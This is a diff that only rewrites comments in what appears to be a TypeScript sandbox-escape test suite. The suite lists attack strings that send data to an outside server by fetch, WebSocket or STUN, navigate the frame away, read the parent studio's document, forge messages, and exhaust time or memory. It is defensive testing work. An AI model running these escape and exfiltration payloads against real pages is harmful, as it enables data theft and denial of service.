@@ -1,20 +1,20 @@
-/** Where the attacks try to get. */
+/** The targets of the attacks. */
 export interface Targets {
-  /** Somebody else's server: of HTTP, WebSocket, and UDP. */
+  /** Another server: by HTTP, WebSocket, and UDP. */
   http: string;
   ws: string;
   stun: string;
-  /** The studio's own. */
+  /** The studio's own server. */
   studio: string;
 }
 
-/** Code that tries something, and whose value says what came of it; `OUT` means that it worked. */
+/** Code that tries something and whose value is the outcome; `OUT` means that it worked. */
 export interface Attack {
   name: string;
   code: string;
 }
 
-/** Gives a channel that nobody answers on time to be used. */
+/** Gives a channel without an immediate response time to be used. */
 const WAIT = 'await new Promise((resolve) => setTimeout(resolve, 80));';
 
 const attempt = (name: string, body: string): Attack => ({
@@ -22,18 +22,18 @@ const attempt = (name: string, body: string): Attack => ({
   code: `try { ${body}; ${WAIT} 'tried' } catch (error) { 'blocked: ' + error?.name }`,
 });
 
-/** Adds markup, in which the browser itself would load something. */
+/** Adds markup for which the browser itself would load something. */
 const markup = (name: string, html: string): Attack =>
   attempt(name, `document.body.insertAdjacentHTML('beforeend', ${JSON.stringify(html)})`);
 
-/** An element with properties, in the document's head or body. */
+/** Adds an element with properties to the document's head or body. */
 const element = (name: string, tag: string, properties: Record<string, string>): Attack =>
   attempt(name, `document.head.append(Object.assign(document.createElement('${tag}'), ${JSON.stringify(properties)}))`);
 
 const inWorker = (source: string): string =>
   `const worker = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(source)}]))); await new Promise((resolve) => { worker.onmessage = worker.onerror = resolve; setTimeout(resolve, 300); }); worker.terminate()`;
 
-/** Every way out that a page has. */
+/** Every way out of a page. */
 export function exfiltrations({ http, ws, stun, studio }: Targets): Attack[] {
   return [
     attempt('fetch', `await fetch('${http}/fetch'); 'OUT'`),
@@ -152,7 +152,7 @@ export function exfiltrations({ http, ws, stun, studio }: Targets): Attack[] {
   ];
 }
 
-/** Ways to leave by taking the frame, or the studio, elsewhere. Most of them end the session. */
+/** Ways to get out by navigating the frame, or the studio. Most of them end the session. */
 export function navigations({ http, studio }: Targets): Attack[] {
   return [
     attempt('location', `location = '${http}/location'`),
@@ -188,7 +188,7 @@ export function navigations({ http, studio }: Targets): Attack[] {
   ];
 }
 
-/** Reading what is the studio's, and taking part in its screen. The value tells what was found. */
+/** Reading the studio's data, and acting on its screen. The value says what was found. */
 export const intrusions: Attack[] = [
   ...[
     'parent.document.body',
@@ -228,7 +228,7 @@ export const intrusions: Attack[] = [
   })),
 ];
 
-/** Messages that nobody asked for, and a page taken apart under the sandbox's own feet. */
+/** Unexpected messages, and tampering with the page underneath the sandbox's own code. */
 export const forgeries: Attack[] = [
   attempt(
     'outcome to the page',
@@ -260,7 +260,7 @@ export const forgeries: Attack[] = [
   attempt('console replaced', `console.log = () => 'OUT'`),
 ];
 
-/** Taking everything there is: time, memory, messages. Each ends with its session or by itself. */
+/** Exhausting resources: time, memory, messages. Each ends with its session or by itself. */
 export const denials: { name: string; code: string; timeout: number }[] = [
   { name: 'a loop without end', code: 'for (;;);', timeout: 1 },
   { name: 'a promise that is never settled', code: 'await new Promise(() => {})', timeout: 1 },
